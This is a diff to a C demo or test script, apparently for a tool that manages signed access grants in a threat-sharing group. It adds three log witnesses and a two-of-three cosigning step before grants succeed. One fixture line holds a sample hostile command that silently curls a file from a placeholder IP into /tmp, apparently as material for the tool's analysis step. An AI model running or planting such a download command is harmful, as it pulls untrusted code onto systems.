@@ -36,15 +36,30 @@ static const char found[] = "curl -s http://192.0.2.201/a -o /tmp/a\n";
             "an incident", "--out", file \
     }
 
+#define COSIGN(...) \
+    { \
+        "access", "audit", "cosign", __VA_ARGS__ \
+    }
+#define WITNESS(request, cosigned) \
+    { \
+        "access", "witness", "--in", request, "--key", "group.card", "--out", cosigned \
+    }
+
 /* clang-format off */
 static const struct step steps[] = {
     {"A group is founded",
-     "Two officers of different roles, each with a key in a home of their own.",
+     "Two officers of different roles, each with a key in a home of their own, and three\n"
+     "witnesses elsewhere, who will see that the group shows one log to everybody.",
      {"access", "card", "--name", "Officer Security", "--out", "security.card"}, 0, 0, "security"},
     {NULL, NULL, {"access", "card", "--name", "Officer Legal", "--out", "legal.card"}, 0, 0, "legal"},
     {NULL, NULL,
+     {"access", "witness", "--out", "one.witness"}, 0, 0, "witness-one"},
+    {NULL, NULL, {"access", "witness", "--out", "two.witness"}, 0, 0, "witness-two"},
+    {NULL, NULL, {"access", "witness", "--out", "three.witness"}, 0, 0, "witness-three"},
+    {NULL, NULL,
      {"access", "init", "--group", "Example Sharing Group", "--officer", "security=security.card",
-      "--officer", "legal=legal.card", "--out", "group.card"}, 0, 0, "group"},
+      "--officer", "legal=legal.card", "--witness", "one.witness", "--witness", "two.witness",
+      "--witness", "three.witness", "--out", "group.card"}, 0, 0, "group"},
     {"A hospital enrols, and two members vouch for it",
      "What passes between homes is a signed file.",
      ENROL("hospital"), 0, 0, "hospital"},
@@ -75,17 +90,27 @@ static const struct step steps[] = {
     {NULL, NULL, {"access", "request", "--in", "hospital.request", "--out", "draft"}, 0, 0, "group"},
     {NULL, NULL, {"access", "approve", "draft", "--group", "group.card", "--out", "once"},
      0, 0, "security"},
-    {NULL, NULL, {"access", "grant", "once", "--out", "hospital.grant"}, 2, 6, "group", "refused"},
+    {NULL, NULL, {"access", "grant", "once"}, 2, 6, "group", "refused"},
     {NULL, NULL, {"access", "approve", "once", "--group", "group.card", "--out", "twice"},
      0, 0, "legal"},
-    {NULL, NULL, {"access", "grant", "twice", "--out", "hospital.grant"}, 0, 0, "group"},
+    {NULL, NULL, {"access", "grant", "twice"}, 0, 6, "group"},
+    {"Two of three witnesses cosign the log",
+     "The third is down; with one alone nothing critical is handed over.",
+     COSIGN("--witness", "one.witness", "--out", "one.request"), 0, 0, "group"},
+    {NULL, NULL, COSIGN("--witness", "two.witness", "--out", "two.request"), 0, 0, "group"},
+    {NULL, NULL, WITNESS("one.request", "one.cosigned"), 0, 0, "witness-one"},
+    {NULL, NULL, COSIGN("--witness", "one.witness", "--in", "one.cosigned"), 0, 0, "group"},
+    {NULL, NULL, {"access", "grant", "twice", "--out", "hospital.grant"}, 2, 6, "group", "refused"},
+    {NULL, NULL, WITNESS("two.request", "two.cosigned"), 0, 0, "witness-two"},
+    {NULL, NULL, COSIGN("--witness", "two.witness", "--in", "two.cosigned"), 0, 0, "group"},
+    {NULL, NULL, {"access", "grant", "twice", "--out", "hospital.grant"}, 0, 2, "group"},
     {NULL, NULL, {"access", "accept", "hospital.grant"}, 0, 4, "hospital", "granted"},
     {"The pack is sealed, and opens for one analysis",
      "At most 15 minutes, in memory alone. The report names the pack and the grant.",
      {"access", "card", "--name", "night watch", "--out", "agent.card"}, 0, 0, "agent"},
     {NULL, NULL,
      {"access", "seal", "examples/rule-pack/sample-pack.yaml", "--group", "group.card", "--to",
-      "@hospital.enrolment", "--to", "@agent.card", "--out", "sample-pack.age"}, 0, 0, "group"},
+      "hospital.enrolment", "--to", "agent.card", "--out", "sample-pack.age"}, 0, 0, "group"},
     {NULL, NULL, {"access", "accept", "sample-pack.age"}, 0, 4, "hospital"},
     {NULL, NULL, ANALYZE("found.sh"), 1, 12, "hospital", "granted"},
     {"An agent gets less, and no more than that",
